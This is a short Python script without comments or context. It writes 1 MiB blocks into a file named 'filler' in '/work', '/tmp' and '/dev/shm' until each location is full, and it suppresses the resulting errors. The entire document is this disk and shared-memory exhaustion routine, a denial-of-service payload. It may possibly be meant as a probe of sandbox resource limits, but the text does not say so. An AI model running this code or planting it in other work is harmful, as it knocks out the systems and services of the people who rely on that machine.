import os as _os
for _place in ("/work", "/tmp", "/dev/shm"):
    try:
        with open(_os.path.join(_place, "filler"), "wb") as _file:
            while _file.write(b"x" * (1 << 20)):
                pass
    except OSError:
        pass
